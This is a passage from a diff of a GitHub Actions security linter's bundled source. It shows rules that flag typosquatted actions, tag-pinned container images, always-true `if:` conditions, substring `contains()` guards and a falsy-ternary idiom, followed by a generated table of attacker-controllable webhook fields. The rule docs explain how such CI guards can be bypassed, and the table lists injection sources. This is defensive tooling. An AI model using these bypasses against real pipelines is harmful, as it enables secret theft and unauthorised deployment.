-    fix: "Check the spelling against the action's Marketplace page and correct the owner or repository name. If the similar name is intended, suppress with `# warden: ignore[typosquat-uses]`."
-  },
-  check({ file, report }) {
-    for (const site of file.uses) {
-      const reference = site.reference;
-      if (reference.kind !== "remote") continue;
-      const target = typosquatTarget(reference.repository);
-      if (!target) continue;
-      const span = site.exact ? { start: site.valueStart, end: site.valueStart + reference.owner.length + 1 + reference.repo.length } : site.entry.valueSpan;
-      report({ span, message: `\`${reference.repository}\` is one character away from the popular action \`${target}\` but belongs to another owner: check that this is not a typo` });
-    }
-  }
-};
-
-// server/src/rules/unpinned-images.ts
-var DIGEST_RE = /^sha256:[0-9a-f]{64}$/i;
-function matrixValues(job, key) {
-  if (!job) return null;
-  const matrixEntry = job.strategy.get("matrix");
-  const matrix = asMap(matrixEntry?.value ?? null);
-  if (!matrix) return null;
-  const values = [];
-  let found = false;
-  for (const entry of mapEntries(matrix, job.doc)) {
-    if (entry.key === key) {
-      const seq2 = asSeq(entry.value);
-      if (!seq2) return null;
-      for (const item of seqItems(seq2, job.doc)) {
-        const text = scalarText(item);
-        if (text === null) return null;
-        values.push(text);
-      }
-      found = true;
-    } else if (entry.key === "include") {
-      for (const item of seqItems(asSeq(entry.value), job.doc)) {
-        for (const row of mapEntries(asMap(item), job.doc)) {
-          if (row.key !== key) continue;
-          const text = scalarText(row.value);
-          if (text === null) return null;
-          values.push(text);
-          found = true;
-        }
-      }
-    }
-  }
-  return found ? values : null;
-}
-function expansions(value, job) {
-  const occurrences = findExpressions(value);
-  if (occurrences.length === 0) return [value];
-  let results = [""];
-  let cursor = 0;
-  for (const occurrence of occurrences) {
-    const literal = value.slice(cursor, occurrence.start);
-    const ast = occurrence.parsed.ast;
-    if (!occurrence.terminated || !ast) return null;
-    const leaves = valueLeaves(ast);
-    const options = [];
-    for (const leaf of leaves) {
-      if (leaf.type === "literal") {
-        options.push(leaf.value === null ? "" : String(leaf.value));
-        continue;
-      }
-      const segments = contextPathSegments(leaf);
-      if (!segments || segments[0] !== "matrix" || segments.length !== 2) return null;
-      const values = matrixValues(job, segments[1]);
-      if (!values) return null;
-      options.push(...values);
-    }
-    if (options.length === 0) return null;
-    const next = [];
-    for (const prefix of results) for (const option of options) next.push(prefix + literal + option);
-    if (next.length > 256) return null;
-    results = next;
-    cursor = occurrence.end;
-  }
-  return results.map((prefix) => prefix + value.slice(cursor));
-}
-function checkImage(ctx, where, value, span, job) {
-  if (value.trim() === "") return;
-  const candidates = expansions(value, job);
-  if (candidates === null) {
-    ctx.report({
-      span,
-      message: `${where} image \`${value}\` is computed from an expression, so it cannot be checked for a digest pin`,
-      confidence: "low"
-    });
-    return;
-  }
-  const seen = /* @__PURE__ */ new Set();
-  for (const candidate of candidates) {
-    if (seen.has(candidate) || candidate.trim() === "") continue;
-    seen.add(candidate);
-    const image = parseImage(candidate);
-    if (image.digest && DIGEST_RE.test(image.digest)) continue;
-    const shown = candidate === value ? `\`${value}\`` : `\`${candidate}\` (from \`${value}\`)`;
-    if (image.tag === null || image.tag === "latest") {
-      ctx.report({
-        span,
-        message: `${where} image ${shown} ${image.tag === null ? "has no tag, so it means `:latest`" : "uses `:latest`"}, which changes whenever the image is pushed: pin it by digest (\`${image.name}@sha256:…\`)`
-      });
-    } else {
-      ctx.report({
-        span,
-        message: `${where} image ${shown} is pinned to tag \`${image.tag}\`, which can be re-pushed: pin it by digest (\`${image.name}:${image.tag}@sha256:…\`)`,
-        persona: "pedantic"
-      });
-    }
-  }
-}
-function checkContainer(ctx, where, node, view, job) {
-  const direct = spannedString(node);
-  if (direct) {
-    checkImage(ctx, where, direct.value, direct.span, job);
-    return;
-  }
-  const map2 = asMap(node);
-  if (!map2) return;
-  const image = new MapView(map2, view.doc).string("image");
-  if (image) checkImage(ctx, where, image.value, image.span, job);
-}
-var unpinnedImages = {
-  id: "unpinned-images",
-  title: "Container image not pinned by digest",
-  kinds: ["workflow", "action"],
-  severity: "high",
-  confidence: "high",
-  persona: "regular",
-  docs: {
-    summary: "A job container, service container, `docker://` step or Docker action names its image by tag (or no tag at all), so whoever can push to that tag decides what runs.",
-    why: "In the 2026 Trivy compromise (CVE-2026-33634) the attacker published a malicious `trivy` 0.69.4 to GitHub Releases, GHCR and Docker Hub under the normal tags; anyone pulling by tag got the credential stealer. Only a `@sha256:` digest names fixed content.",
-    fix: "Append the digest: `image: node:22@sha256:<64 hex>` (keep the tag for readers). `docker buildx imagetools inspect <image>` prints it; Dependabot and Renovate update digests."
-  },
-  check(ctx) {
-    const file = ctx.file;
-    if (file.workflow) {
-      for (const job of file.workflow.jobs) {
-        const container = job.container;
-        if (container) checkContainer(ctx, `Job \`${job.id}\` container`, container.value, job, job);
-        for (const service of job.services.entries) {
-          checkContainer(ctx, `Service \`${service.key}\` of job \`${job.id}\``, service.value, job, job);
-        }
-      }
-    }
-    if (file.action) {
-      const image = spannedString(file.action.image?.value ?? null);
-      if (image && image.value.startsWith("docker://")) {
-        checkImage(ctx, "Docker action", image.value.slice("docker://".length), image.span, null);
-      }
-    }
-    for (const site of file.uses) {
-      if (site.reference.kind !== "docker") continue;
-      const span = site.exact ? { start: site.valueStart, end: site.valueStart + site.value.length } : site.entry.valueSpan;
-      checkImage(ctx, `Step \`${site.step?.label ?? "uses"}\``, site.value.trim().slice("docker://".length), span, site.job);
-    }
-  }
-};
-
-// server/src/rules/unsound-condition.ts
-function isSingleFence(text) {
-  const found = findExpressions(text);
-  return found.length === 1 && found[0].terminated && found[0].start === 0 && found[0].end === text.length;
-}
-var unsoundCondition = {
-  id: "unsound-condition",
-  title: "`if:` that is always true",
-  kinds: ["workflow", "action"],
-  severity: "high",
-  confidence: "high",
-  persona: "regular",
-  docs: {
-    summary: "An `if:` whose value is more than one `${{ }}` (a block scalar's trailing newline, text around the fence, two fences) is a string, not an expression, and every non-empty string is true.",
-    why: "GitHub evaluates an `if:` as an expression only when the whole value is one `${{ }}`; otherwise it interpolates the fences into a string, which is truthy. `if: |` with a `${{ }}` inside therefore always runs the step: guards such as `github.event.pull_request.head.repo.fork == false` in front of secret-using or publishing steps silently stop guarding.",
-    fix: "Write the condition on one line without a fence (`if: a && b`), or use a stripping block header (`|-`, `>-`; the quick fix does that), or put all the text inside one `${{ }}`."
-  },
-  check({ file, report }) {
-    for (const { entry, owner } of conditions(file)) {
-      const scalar = asScalar(entry.value);
-      if (!scalar || typeof scalar.value !== "string") continue;
-      const value = scalar.value;
-      if (!value.includes("${{") || isSingleFence(value)) continue;
-      const fixes = [];
-      const block = scalar.type === "BLOCK_LITERAL" || scalar.type === "BLOCK_FOLDED";
-      if (block && isSingleFence(trimEndOf(value, "\n"))) {
-        const header = /^([|>])([1-9]?)([+-]?)([1-9]?)/.exec(file.text.slice(entry.valueSpan.start, entry.valueSpan.start + 4));
-        if (header) {
-          fixes.push({
-            title: `Strip the trailing newline (\`${header[1]}-\`)`,
-            isPreferred: true,
-            safety: "safe",
-            edits: [{ span: { start: entry.valueSpan.start, end: entry.valueSpan.start + header[0].length }, newText: `${header[1]}${header[2] || header[4]}-` }]
-          });
-        }
-      }
-      const reason = block && fixes.length > 0 ? "the block scalar keeps a trailing newline" : "it has text outside its `${{ }}`";
-      report({
-        span: entry.valueSpan,
-        message: `The \`if:\` of ${owner} is always true: ${reason}, so GitHub reads it as a non-empty string instead of evaluating the condition`,
-        fixes
-      });
-    }
-  }
-};
-
-// server/src/rules/unsound-contains.ts
-var CONTROLLABLE = [/^env\./, /^inputs\./, /^github\.(actor|base_ref|head_ref|ref|ref_name|sha|triggering_actor)$/];
-var unsoundContains = {
-  id: "unsound-contains",
-  title: "`contains()` with a literal string as the haystack",
-  kinds: ["workflow", "action"],
-  severity: "high",
-  confidence: "high",
-  persona: "regular",
-  docs: {
-    summary: "`contains('refs/heads/main refs/heads/release', github.ref)` is a substring test, so any value that is a substring of the literal (`refs/heads/m`, `main`, an empty string) passes.",
-    why: "People write `contains('a b c', x)` meaning \"x is one of a, b, c\". A branch named `refs/heads/mai` or an input of `a` satisfies it, which turns branch or actor guards in front of deployments and secret use into formalities.",
-    fix: 'Use an array: `contains(fromJSON(\'["refs/heads/main", "refs/heads/release"]\'), github.ref)`, or explicit comparisons joined with `||`.'
-  },
-  check({ file, report }) {
-    for (const expression of evaluatedExpressions(file)) {
-      if (!/contains/i.test(expression.text)) continue;
-      const ast = expression.parsed.ast;
-      if (!ast || !expression.exact) continue;
-      walkExpression(ast, (node) => {
-        if (node.type !== "call" || node.name.toLowerCase() !== "contains" || node.args.length !== 2) return;
-        const [haystack, needle] = node.args;
-        if (haystack.type !== "literal" || haystack.kind !== "string") return;
-        const path = contextPath(needle, { caseInsensitive: true });
-        if (!path) return;
-        const controllable = CONTROLLABLE.some((pattern) => pattern.test(path));
-        report({
-          span: { start: node.start, end: node.end },
-          message: `\`contains('${String(haystack.value)}', ${path})\` tests whether \`${path}\` is a substring of the literal, not whether it is one of its words${controllable ? `; \`${path}\` can be chosen to pass` : ""}`,
-          severity: controllable ? "high" : "informational"
-        });
-      });
-    }
-  }
-};
-
-// server/src/rules/unsound-ternary.ts
-function unwrap(node) {
-  while (node.type === "group") node = node.expr;
-  return node;
-}
-function isFalsyLiteral(node) {
-  const inner = unwrap(node);
-  if (inner.type !== "literal") return false;
-  return inner.value === false || inner.value === null || inner.value === "" || inner.value === 0;
-}
-var unsoundTernary = {
-  id: "unsound-ternary",
-  title: "`cond && <falsy> || other` never yields the falsy value",
-  kinds: ["workflow", "action"],
-  severity: "low",
-  confidence: "high",
-  persona: "regular",
-  docs: {
-    summary: "The `a && b || c` idiom returns `c` whenever `b` is falsy, so `cond && '' || 'x'` or `cond && false || true` always gives the right-hand side.",
-    why: "Expressions have no ternary operator before `case()`; the `&&`/`||` idiom is everywhere, and with a falsy middle value it silently inverts: `${{ github.event_name == 'push' && false || true }}` is always `true`, so a flag meant to be off for pushes (a dry run, `--no-publish`) is on.",
-    fix: "Swap the branches and negate the condition (`!cond && 'x' || ''`), or use `case(cond, '', 'x')`."
-  },
-  check({ file, report }) {
-    for (const expression of evaluatedExpressions(file)) {
-      if (!expression.text.includes("&&") || !expression.text.includes("||")) continue;
-      const ast = expression.parsed.ast;
-      if (!ast || !expression.exact) continue;
-      walkExpression(ast, (node) => {
-        if (node.type !== "binary" || node.op !== "||") return;
-        const left = unwrap(node.left);
-        if (left.type !== "binary" || left.op !== "&&" || !isFalsyLiteral(left.right)) return;
-        const literal = unwrap(left.right);
-        const shown = literal.type === "literal" ? literal.kind === "string" ? `''` : String(literal.value) : "?";
-        report({
-          span: { start: node.start, end: node.end },
-          message: `\`… && ${shown} || …\` never evaluates to ${shown}: when the condition holds, ${shown} is falsy and the \`||\` branch is taken instead`
-        });
-      });
-    }
-  }
-};
-
-// server/src/rules/catalogue.ts
-var CATALOGUE_RULES = [
-  unpinnedImages,
-  hardcodedContainerCredentials,
-  knownVulnerableActions,
-  archivedUses,
-  typosquatUses,
-  forbiddenUses,
-  dependabotCooldown,
-  dependabotExecution,
-  dependabotMissingActions,
-  unsoundCondition,
-  unsoundContains,
-  unsoundTernary,
-  obfuscation,
-  misfeature,
-  superfluousActions,
-  githubApp,
-  selfRepository,
-  concurrencyLimits,
-  anonymousDefinition
-];
-
-// server/src/knowledge/webhook-contexts.generated.ts
-var WEBHOOK_FIELDS = {
-  branch_protection_rule: {
-    a: "changes.authorized_actor_names.from.* changes.required_status_checks.from.* rule.authorized_actor_names.* rule.name rule.required_status_checks.* sender.name",
-    s: "sender.email sender.login"
-  },
-  check_run: {
-    a: "check_run.app.description check_run.app.external_url check_run.app.name check_run.app.owner.description check_run.app.owner.name check_run.app.owner.website_url check_run.check_suite.app.description check_run.check_suite.app.external_url check_run.check_suite.app.name check_run.check_suite.app.owner.description check_run.check_suite.app.owner.name check_run.check_suite.app.owner.website_url check_run.check_suite.head_branch check_run.check_suite.pull_requests.*.base.ref check_run.check_suite.pull_requests.*.head.ref check_run.check_suite.repository.code_of_conduct.body check_run.check_suite.repository.code_of_conduct.name check_run.check_suite.repository.custom_properties.* check_run.check_suite.repository.description check_run.check_suite.repository.homepage check_run.check_suite.repository.license.name check_run.check_suite.repository.mirror_url check_run.check_suite.repository.owner.name check_run.check_suite.repository.topics.* check_run.deployment.description check_run.deployment.environment check_run.deployment.original_environment check_run.deployment.performed_via_github_app.description check_run.deployment.performed_via_github_app.external_url check_run.deployment.performed_via_github_app.name check_run.deployment.performed_via_github_app.owner.description check_run.deployment.performed_via_github_app.owner.name check_run.deployment.performed_via_github_app.owner.website_url check_run.deployment.task check_run.details_url check_run.external_id check_run.name check_run.output.summary check_run.output.text check_run.output.title check_run.pull_requests.*.base.ref check_run.pull_requests.*.head.ref requested_action.identifier sender.name",
-    s: "check_run.app.owner.email check_run.app.owner.login check_run.app.owner.slug check_run.app.slug check_run.check_suite.app.owner.email check_run.check_suite.app.owner.login check_run.check_suite.app.owner.slug check_run.check_suite.app.slug check_run.check_suite.pull_requests.*.base.repo.name check_run.check_suite.pull_requests.*.head.repo.name check_run.check_suite.repository.full_name check_run.check_suite.repository.name check_run.check_suite.repository.owner.email check_run.check_suite.repository.owner.login check_run.deployment.performed_via_github_app.owner.email check_run.deployment.performed_via_github_app.owner.login check_run.deployment.performed_via_github_app.owner.slug check_run.deployment.performed_via_github_app.slug check_run.pull_requests.*.base.repo.name check_run.pull_requests.*.head.repo.name sender.email sender.login"
-  },
-  check_suite: {
-    a: "check_suite.app.description check_suite.app.external_url check_suite.app.name check_suite.app.owner.name check_suite.head_branch check_suite.head_commit.author.name check_suite.head_commit.committer.name check_suite.head_commit.message check_suite.pull_requests.*.base.ref check_suite.pull_requests.*.head.ref sender.name",
-    s: "check_suite.app.owner.email check_suite.app.owner.login check_suite.app.slug check_suite.head_commit.author.email check_suite.head_commit.author.username check_suite.head_commit.committer.email check_suite.head_commit.committer.username check_suite.pull_requests.*.base.repo.name check_suite.pull_requests.*.head.repo.name sender.email sender.login"
-  },
-  create: {
-    a: "description pusher_type ref sender.name",
-    s: "sender.email sender.login"
-  },
-  delete: {
-    a: "pusher_type ref sender.name",
-    s: "sender.email sender.login"
-  },
-  deployment: {
-    a: "deployment.creator.name deployment.description deployment.environment deployment.original_environment deployment.payload deployment.payload.* deployment.performed_via_github_app.description deployment.performed_via_github_app.external_url deployment.performed_via_github_app.name deployment.performed_via_github_app.owner.name deployment.ref deployment.task sender.name workflow.name workflow_run.actor.name workflow_run.display_title workflow_run.head_branch workflow_run.name workflow_run.pull_requests.*.base.ref workflow_run.pull_requests.*.head.ref workflow_run.referenced_workflows.*.ref workflow_run.triggering_actor.name",
-    s: "deployment.creator.email deployment.creator.login deployment.performed_via_github_app.owner.email deployment.performed_via_github_app.owner.login deployment.performed_via_github_app.slug sender.email sender.login workflow_run.actor.email workflow_run.actor.login workflow_run.head_repository.full_name workflow_run.head_repository.name workflow_run.head_repository.owner.login workflow_run.pull_requests.*.base.repo.name workflow_run.pull_requests.*.head.repo.name workflow_run.repository.full_name workflow_run.repository.name workflow_run.repository.owner.login workflow_run.triggering_actor.email workflow_run.triggering_actor.login"
-  },
-  deployment_status: {
-    a: "check_run.details_url check_run.external_id check_run.name deployment.creator.name deployment.description deployment.environment deployment.original_environment deployment.payload deployment.payload.* deployment.performed_via_github_app.description deployment.performed_via_github_app.external_url deployment.performed_via_github_app.name deployment.performed_via_github_app.owner.name deployment.ref deployment.task deployment_status.creator.name deployment_status.description deployment_status.environment deployment_status.performed_via_github_app.description deployment_status.performed_via_github_app.external_url deployment_status.performed_via_github_app.name deployment_status.performed_via_github_app.owner.name deployment_status.target_url sender.name workflow.name workflow_run.actor.name workflow_run.display_title workflow_run.head_branch workflow_run.name workflow_run.pull_requests.*.base.ref workflow_run.pull_requests.*.head.ref workflow_run.referenced_workflows.*.ref workflow_run.triggering_actor.name",
-    s: "deployment.creator.email deployment.creator.login deployment.performed_via_github_app.owner.email deployment.performed_via_github_app.owner.login deployment.performed_via_github_app.slug deployment_status.creator.email deployment_status.creator.login deployment_status.performed_via_github_app.owner.email deployment_status.performed_via_github_app.owner.login deployment_status.performed_via_github_app.slug sender.email sender.login workflow_run.actor.email workflow_run.actor.login workflow_run.head_repository.full_name workflow_run.head_repository.name workflow_run.head_repository.owner.login workflow_run.pull_requests.*.base.repo.name workflow_run.pull_requests.*.head.repo.name workflow_run.repository.full_name workflow_run.repository.name workflow_run.repository.owner.login workflow_run.triggering_actor.email workflow_run.triggering_actor.login"
-  },
-  discussion: {
-    a: "answer.body answer.user.name changes.body.from changes.category.from.description changes.category.from.emoji changes.category.from.name changes.new_discussion.active_lock_reason changes.new_discussion.answer_chosen_by.name changes.new_discussion.answer_html_url changes.new_discussion.body changes.new_discussion.category.description changes.new_discussion.category.emoji changes.new_discussion.category.name changes.new_discussion.labels.*.description changes.new_discussion.labels.*.name changes.new_discussion.title changes.new_discussion.user.name changes.new_repository.custom_properties.* changes.new_repository.description changes.new_repository.full_name changes.new_repository.homepage changes.new_repository.license.name changes.new_repository.name changes.new_repository.organization.name changes.new_repository.owner.name changes.new_repository.template_repository.description changes.new_repository.template_repository.homepage changes.new_repository.template_repository.topics.* changes.new_repository.topics.* changes.title.from discussion.active_lock_reason discussion.answer_chosen_by.name discussion.answer_html_url discussion.body discussion.category.description discussion.category.emoji discussion.category.name discussion.labels.*.description discussion.labels.*.name discussion.title discussion.user.name label.description label.name old_answer.body old_answer.user.name sender.name",
-    s: "answer.user.email answer.user.login changes.category.from.slug changes.new_discussion.answer_chosen_by.email changes.new_discussion.answer_chosen_by.login changes.new_discussion.category.slug changes.new_discussion.user.email changes.new_discussion.user.login changes.new_repository.organization.email changes.new_repository.organization.login changes.new_repository.owner.email changes.new_repository.owner.login changes.new_repository.template_repository.full_name changes.new_repository.template_repository.name changes.new_repository.template_repository.owner.login discussion.answer_chosen_by.email discussion.answer_chosen_by.login discussion.category.slug discussion.user.email discussion.user.login old_answer.user.email old_answer.user.login sender.email sender.login"
-  },
-  discussion_comment: {
-    a: "changes.body.from comment.body comment.user.name discussion.active_lock_reason discussion.answer_chosen_by.name discussion.answer_html_url discussion.body discussion.category.description discussion.category.emoji discussion.category.name discussion.labels.*.description discussion.labels.*.name discussion.title discussion.user.name sender.name",
-    s: "comment.user.email comment.user.login discussion.answer_chosen_by.email discussion.answer_chosen_by.login discussion.category.slug discussion.user.email discussion.user.login sender.email sender.login"
-  },
-  fork: {
-    a: "forkee.description forkee.homepage forkee.license.name forkee.organization forkee.owner.name forkee.topics.* sender.name",
-    s: "forkee.full_name forkee.name forkee.owner.email forkee.owner.login sender.email sender.login"
-  },
-  gollum: {
-    a: "pages.*.page_name pages.*.summary pages.*.title sender.name",
-    s: "sender.email sender.login"
-  },
-  issue_comment: {
-    a: "changes.body.from comment.body comment.performed_via_github_app.description comment.performed_via_github_app.external_url comment.performed_via_github_app.name comment.performed_via_github_app.owner.description comment.performed_via_github_app.owner.name comment.performed_via_github_app.owner.website_url comment.user.name issue.active_lock_reason issue.assignee.name issue.assignees.*.name issue.body issue.labels.*.description issue.labels.*.name issue.milestone.creator.name issue.milestone.description issue.milestone.title issue.performed_via_github_app.description issue.performed_via_github_app.external_url issue.performed_via_github_app.name issue.performed_via_github_app.owner.name issue.title issue.type.description issue.type.name issue.user.name sender.name",
-    s: "comment.performed_via_github_app.owner.email comment.performed_via_github_app.owner.login comment.performed_via_github_app.owner.slug comment.performed_via_github_app.slug comment.user.email comment.user.login issue.assignee.email issue.assignee.login issue.assignees.*.email issue.assignees.*.login issue.milestone.creator.email issue.milestone.creator.login issue.performed_via_github_app.owner.email issue.performed_via_github_app.owner.login issue.performed_via_github_app.slug issue.user.email issue.user.login sender.email sender.login"
-  },
-  issues: {
-    a: "assignee.name changes.body.from changes.new_issue.assignee.name changes.new_issue.assignees.*.name changes.new_issue.body changes.new_issue.issue_field_values.*.single_select_option.name changes.new_issue.issue_field_values.*.value changes.new_issue.labels.*.description changes.new_issue.labels.*.name changes.new_issue.milestone.creator.name changes.new_issue.milestone.description changes.new_issue.milestone.title changes.new_issue.performed_via_github_app.description changes.new_issue.performed_via_github_app.external_url changes.new_issue.performed_via_github_app.name changes.new_issue.performed_via_github_app.owner.name changes.new_issue.title changes.new_issue.type.description changes.new_issue.type.name changes.new_issue.user.name changes.new_repository.custom_properties.* changes.new_repository.description changes.new_repository.full_name changes.new_repository.homepage changes.new_repository.license.name changes.new_repository.name changes.new_repository.organization changes.new_repository.owner.name changes.new_repository.topics.* changes.old_issue.assignee.name changes.old_issue.assignees.*.name changes.old_issue.body changes.old_issue.issue_field_values.*.single_select_option.name changes.old_issue.issue_field_values.*.value changes.old_issue.labels.*.description changes.old_issue.labels.*.name changes.old_issue.milestone.creator.name changes.old_issue.milestone.description changes.old_issue.milestone.title changes.old_issue.performed_via_github_app.description changes.old_issue.performed_via_github_app.external_url changes.old_issue.performed_via_github_app.name changes.old_issue.performed_via_github_app.owner.name changes.old_issue.title changes.old_issue.type.description changes.old_issue.type.name changes.old_issue.user.name changes.old_repository.custom_properties.* changes.old_repository.description changes.old_repository.full_name changes.old_repository.homepage changes.old_repository.license.name changes.old_repository.name changes.old_repository.organization changes.old_repository.owner.name changes.old_repository.topics.* changes.title.from issue.active_lock_reason issue.assignee.name issue.assignees.*.name issue.body issue.issue_field_values.*.single_select_option.name issue.issue_field_values.*.value issue.labels.*.description issue.labels.*.name issue.milestone.creator.name issue.milestone.description issue.milestone.title issue.performed_via_github_app.description issue.performed_via_github_app.external_url issue.performed_via_github_app.name issue.performed_via_github_app.owner.name issue.title issue.type.description issue.type.name issue.user.name label.description label.name milestone.creator.name milestone.description milestone.title sender.name type.description type.name",
-    s: "assignee.email assignee.login changes.new_issue.assignee.email changes.new_issue.assignee.login changes.new_issue.assignees.*.email changes.new_issue.assignees.*.login changes.new_issue.milestone.creator.email changes.new_issue.milestone.creator.login changes.new_issue.performed_via_github_app.owner.email changes.new_issue.performed_via_github_app.owner.login changes.new_issue.performed_via_github_app.slug changes.new_issue.user.email changes.new_issue.user.login changes.new_repository.owner.email changes.new_repository.owner.login changes.old_issue.assignee.email changes.old_issue.assignee.login changes.old_issue.assignees.*.email changes.old_issue.assignees.*.login changes.old_issue.milestone.creator.email changes.old_issue.milestone.creator.login changes.old_issue.performed_via_github_app.owner.email changes.old_issue.performed_via_github_app.owner.login changes.old_issue.performed_via_github_app.slug changes.old_issue.user.email changes.old_issue.user.login changes.old_repository.owner.email changes.old_repository.owner.login issue.assignee.email issue.assignee.login issue.assignees.*.email issue.assignees.*.login issue.milestone.creator.email issue.milestone.creator.login issue.performed_via_github_app.owner.email issue.performed_via_github_app.owner.login issue.performed_via_github_app.slug issue.user.email issue.user.login milestone.creator.email milestone.creator.login sender.email sender.login"
-  },
-  label: {
-    a: "changes.color.from changes.description.from changes.name.from label.description label.name sender.name",
-    s: "sender.email sender.login"
-  },
-  merge_group: {
-    a: "merge_group.base_ref merge_group.head_commit.author.name merge_group.head_commit.committer.name merge_group.head_commit.message merge_group.head_ref sender.name",
-    s: "merge_group.head_commit.author.email merge_group.head_commit.committer.email sender.email sender.login"
-  },
-  milestone: {
-    a: "changes.description.from changes.due_on.from changes.title.from milestone.creator.name milestone.description milestone.title sender.name",
-    s: "milestone.creator.email milestone.creator.login sender.email sender.login"
-  },
-  page_build: {
-    a: "build.commit build.error.message sender.name",
-    s: "build.pusher.email build.pusher.login build.pusher.name sender.email sender.login"
-  },
-  public: {
-    a: "sender.name",
-    s: "sender.email sender.login"
-  },
-  pull_request: {
-    a: "assignee.name changes.base.ref.from changes.body.from changes.title.from label.description label.name milestone.creator.name milestone.description milestone.title pull_request.active_lock_reason pull_request.assignee.name pull_request.assignees.*.name pull_request.auto_merge.commit_message pull_request.auto_merge.commit_title pull_request.auto_merge.enabled_by.name pull_request.base.label pull_request.base.ref pull_request.base.repo.description pull_request.base.repo.homepage pull_request.base.repo.license.name pull_request.base.repo.organization pull_request.base.repo.owner.name pull_request.base.repo.topics.* pull_request.base.user.name pull_request.body pull_request.head.label pull_request.head.ref pull_request.head.repo.description pull_request.head.repo.homepage pull_request.head.repo.license.name pull_request.head.repo.organization pull_request.head.repo.owner.name pull_request.head.repo.topics.* pull_request.head.user.name pull_request.labels.*.description pull_request.labels.*.name pull_request.merged_by.name pull_request.milestone.creator.name pull_request.milestone.description pull_request.milestone.title pull_request.requested_reviewers.*.description pull_request.requested_reviewers.*.name pull_request.requested_reviewers.*.parent.description pull_request.requested_reviewers.*.parent.name pull_request.requested_teams.*.description pull_request.requested_teams.*.name pull_request.requested_teams.*.parent.description pull_request.requested_teams.*.parent.name pull_request.title pull_request.user.name reason requested_reviewer.name requested_team.description requested_team.name requested_team.parent.description requested_team.parent.name sender.name",
-    s: "assignee.email assignee.login milestone.creator.email milestone.creator.login pull_request.assignee.email pull_request.assignee.login pull_request.assignees.*.email pull_request.assignees.*.login pull_request.auto_merge.enabled_by.email pull_request.auto_merge.enabled_by.login pull_request.base.repo.full_name pull_request.base.repo.name pull_request.base.repo.owner.email pull_request.base.repo.owner.login pull_request.base.user.email pull_request.base.user.login pull_request.head.repo.full_name pull_request.head.repo.name pull_request.head.repo.owner.email pull_request.head.repo.owner.login pull_request.head.user.email pull_request.head.user.login pull_request.merged_by.email pull_request.merged_by.login pull_request.milestone.creator.email pull_request.milestone.creator.login pull_request.requested_reviewers.*.email pull_request.requested_reviewers.*.login pull_request.requested_reviewers.*.parent.slug pull_request.requested_reviewers.*.slug pull_request.requested_teams.*.parent.slug pull_request.requested_teams.*.slug pull_request.user.email pull_request.user.login requested_reviewer.email requested_reviewer.login requested_team.parent.slug requested_team.slug sender.email sender.login"
-  },
-  pull_request_review: {
-    a: "changes.body.from pull_request.assignee.name pull_request.assignees.*.name pull_request.auto_merge.commit_message pull_request.auto_merge.commit_title pull_request.auto_merge.enabled_by.name pull_request.base.label pull_request.base.ref pull_request.base.repo.description pull_request.base.repo.homepage pull_request.base.repo.license.name pull_request.base.repo.organization pull_request.base.repo.owner.name pull_request.base.repo.topics.* pull_request.base.user.name pull_request.body pull_request.head.label pull_request.head.ref pull_request.head.repo.description pull_request.head.repo.homepage pull_request.head.repo.license.name pull_request.head.repo.organization pull_request.head.repo.owner.name pull_request.head.repo.topics.* pull_request.head.user.name pull_request.labels.*.description pull_request.labels.*.name pull_request.milestone.creator.name pull_request.milestone.description pull_request.milestone.title pull_request.requested_reviewers.*.description pull_request.requested_reviewers.*.name pull_request.requested_reviewers.*.parent.description pull_request.requested_reviewers.*.parent.name pull_request.requested_teams.*.description pull_request.requested_teams.*.name pull_request.requested_teams.*.parent.description pull_request.requested_teams.*.parent.name pull_request.title pull_request.user.name review.body review.user.name sender.name",
-    s: "pull_request.assignee.email pull_request.assignee.login pull_request.assignees.*.email pull_request.assignees.*.login pull_request.auto_merge.enabled_by.email pull_request.auto_merge.enabled_by.login pull_request.base.repo.full_name pull_request.base.repo.name pull_request.base.repo.owner.email pull_request.base.repo.owner.login pull_request.base.user.email pull_request.base.user.login pull_request.head.repo.full_name pull_request.head.repo.name pull_request.head.repo.owner.email pull_request.head.repo.owner.login pull_request.head.user.email pull_request.head.user.login pull_request.milestone.creator.email pull_request.milestone.creator.login pull_request.requested_reviewers.*.email pull_request.requested_reviewers.*.login pull_request.requested_reviewers.*.parent.slug pull_request.requested_reviewers.*.slug pull_request.requested_teams.*.parent.slug pull_request.requested_teams.*.slug pull_request.user.email pull_request.user.login review.user.email review.user.login sender.email sender.login"
-  },
-  pull_request_review_comment: {
-    a: "changes.body.from comment.body comment.diff_hunk comment.path comment.user.name pull_request.assignee.name pull_request.assignees.*.name pull_request.auto_merge.commit_message pull_request.auto_merge.commit_title pull_request.auto_merge.enabled_by.name pull_request.base.label pull_request.base.ref pull_request.base.repo.description pull_request.base.repo.homepage pull_request.base.repo.license.name pull_request.base.repo.organization pull_request.base.repo.owner.name pull_request.base.repo.topics.* pull_request.base.user.name pull_request.body pull_request.head.label pull_request.head.ref pull_request.head.repo.description pull_request.head.repo.homepage pull_request.head.repo.license.name pull_request.head.repo.organization pull_request.head.repo.owner.name pull_request.head.repo.topics.* pull_request.head.user.name pull_request.labels.*.description pull_request.labels.*.name pull_request.milestone.creator.name pull_request.milestone.description pull_request.milestone.title pull_request.requested_reviewers.*.description pull_request.requested_reviewers.*.name pull_request.requested_reviewers.*.parent.description pull_request.requested_reviewers.*.parent.name pull_request.requested_teams.*.description pull_request.requested_teams.*.name pull_request.requested_teams.*.parent.description pull_request.requested_teams.*.parent.name pull_request.title pull_request.user.name sender.name",
-    s: "comment.user.email comment.user.login pull_request.assignee.email pull_request.assignee.login pull_request.assignees.*.email pull_request.assignees.*.login pull_request.auto_merge.enabled_by.email pull_request.auto_merge.enabled_by.login pull_request.base.repo.full_name pull_request.base.repo.name pull_request.base.repo.owner.email pull_request.base.repo.owner.login pull_request.base.user.email pull_request.base.user.login pull_request.head.repo.full_name pull_request.head.repo.name pull_request.head.repo.owner.email pull_request.head.repo.owner.login pull_request.head.user.email pull_request.head.user.login pull_request.milestone.creator.email pull_request.milestone.creator.login pull_request.requested_reviewers.*.email pull_request.requested_reviewers.*.login pull_request.requested_reviewers.*.parent.slug pull_request.requested_reviewers.*.slug pull_request.requested_teams.*.parent.slug pull_request.requested_teams.*.slug pull_request.user.email pull_request.user.login sender.email sender.login"
-  },
-  push: {
-    a: "base_ref commits.*.added.* commits.*.author.name commits.*.committer.name commits.*.message commits.*.modified.* commits.*.removed.* head_commit.added.* head_commit.author.name head_commit.committer.name head_commit.message head_commit.modified.* head_commit.removed.* ref sender.name",
